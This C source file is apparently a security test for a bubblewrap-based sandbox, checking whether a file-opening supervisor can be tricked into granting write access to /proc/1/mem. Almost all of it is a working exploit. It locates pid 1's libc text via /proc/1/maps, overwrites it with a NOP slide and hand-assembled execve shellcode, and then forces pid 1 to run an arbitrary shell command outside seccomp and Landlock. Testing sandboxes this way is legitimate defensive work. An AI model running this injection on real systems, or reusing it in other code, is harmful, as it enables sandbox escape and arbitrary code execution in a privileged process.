/* attack_pid1 CMD: run CMD in the sandbox's pid 1 (bubblewrap's reaper),
 * which has neither the seccomp filter nor Landlock.
 *
 * The threat: an open() with O_CREAT is handed to the dot-file supervisor,
 * which opens the file itself, with its own credentials and outside
 * Landlock, and injects the fd. If it agrees to open /proc/1/mem read-write
 * (the program's own kernel check refuses: Landlock forbids tracing a
 * process outside its domain), the program can write code into pid 1. Pid 1
 * then runs CMD (/bin/sh -c CMD) without seccomp or Landlock, e.g. creating
 * .envrc at the top of a --write folder.
 *
 * Exit: 0 when the injection was written (the hole), 3 when /proc/1/mem or
 * /proc/1/syscall could not be opened (the sandbox held), 1 on other
 * errors. stdout says which step stopped it.
 */

#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

static int open_either(const char *path, int flags)
{
	int fd = open(path, flags);
	if (fd >= 0)
		return fd;
	printf("plain open %s: %s\n", path, strerror(errno));
	fd = open(path, flags | O_CREAT, 0600);
	if (fd < 0)
		printf("O_CREAT open %s: %s\n", path, strerror(errno));
	else
		printf("O_CREAT open %s: opened\n", path);
	return fd;
}

int main(int argc, char **argv)
{
	if (argc != 2) {
		fprintf(stderr, "usage: attack_pid1 CMD\n");
		return 1;
	}
	const char *cmd = argv[1];
	int mem = open_either("/proc/1/mem", O_RDWR);
	if (mem < 0)
		return 3;
	/* Where pid 1 sleeps: somewhere in libc's text, inside wait(). Its
	 * /proc/1/syscall is checked at read time (refused), but maps is
	 * checked at open time, which the supervisor does for us. */
	FILE *maps = NULL;
	int mfd = open_either("/proc/1/maps", O_RDONLY);
	if (mfd < 0 || !(maps = fdopen(mfd, "r")))
		return 3;
	char line[512];
	uint64_t lo = 0, hi = 0;
	while (fgets(line, sizeof(line), maps)) {
		unsigned long long a, b;
		char perm[8];
		if (sscanf(line, "%llx-%llx %7s", &a, &b, perm) != 3)
			continue;
		if (strcmp(perm, "r-xp") == 0 && strstr(line, "/libc.so")) {
			lo = a;
			hi = b;
		}
	}
	fclose(maps);
	if (!lo || hi - lo < 0x10000) {
		printf("libc text of pid 1 not found\n");
		return 1;
	}
	printf("pid 1 libc text 0x%" PRIx64 "-0x%" PRIx64 "\n", lo, hi);

	/* A NOP slide over all of libc's text, our code in its last page:
	 * wherever in libc pid 1 resumes, it slides into it. */
	uint64_t pc = hi - 0x1000;
	size_t slide = (size_t)(pc - lo);
	unsigned char *nops = malloc(slide);
	if (!nops)
		return 1;
	memset(nops, 0x90, slide);

	/* Data after the code: "/bin/sh", "-c", CMD, argv[]. */
	unsigned char img[4096] = {0};
	uint64_t a_sh = pc + 0x100, a_c = pc + 0x110, a_cmd = pc + 0x120;
	size_t clen = strlen(cmd);
	if (clen > 0x800) {
		printf("command too long\n");
		return 1;
	}
	uint64_t a_argv = pc + 0x120 + ((clen + 16) & ~7ul);
	size_t k = 0;
	img[k++] = 0x48; /* mov rdi, imm64 */
	img[k++] = 0xbf;
	memcpy(img + k, &a_sh, 8);
	k += 8;
	img[k++] = 0x48; /* mov rsi, imm64 */
	img[k++] = 0xbe;
	memcpy(img + k, &a_argv, 8);
	k += 8;
	img[k++] = 0x31; /* xor edx, edx */
	img[k++] = 0xd2;
	img[k++] = 0xb8; /* mov eax, 59 (execve) */
	img[k++] = 59;
	img[k++] = 0;
	img[k++] = 0;
	img[k++] = 0;
	img[k++] = 0x0f; /* syscall */
	img[k++] = 0x05;
	memcpy(img + 0x100, "/bin/sh", 8);
	memcpy(img + 0x110, "-c", 3);
	memcpy(img + 0x120, cmd, clen + 1);
	uint64_t av[4] = {a_sh, a_c, a_cmd, 0};
	memcpy(img + (a_argv - pc), av, sizeof(av));
	size_t total = (a_argv - pc) + sizeof(av);
	/* the code first, then the slide that leads to it */
	if (pwrite(mem, img, total, (off_t)pc) != (ssize_t)total ||
	    pwrite(mem, nops, slide, (off_t)lo) != (ssize_t)slide) {
		printf("write /proc/1/mem: %s\n", strerror(errno));
		return 3;
	}
	free(nops);
	printf("injected %zu bytes into pid 1\n", total + slide);
	fflush(stdout);

	/* Wake pid 1's wait(): an orphan reparented to it exits. */
	pid_t c = fork();
	if (c == 0) {
		if (fork() == 0) {
			usleep(100000);
			_exit(0);
		}
		_exit(0);
	}
	waitpid(c, NULL, 0);
	sleep(2);
	return 0;
}
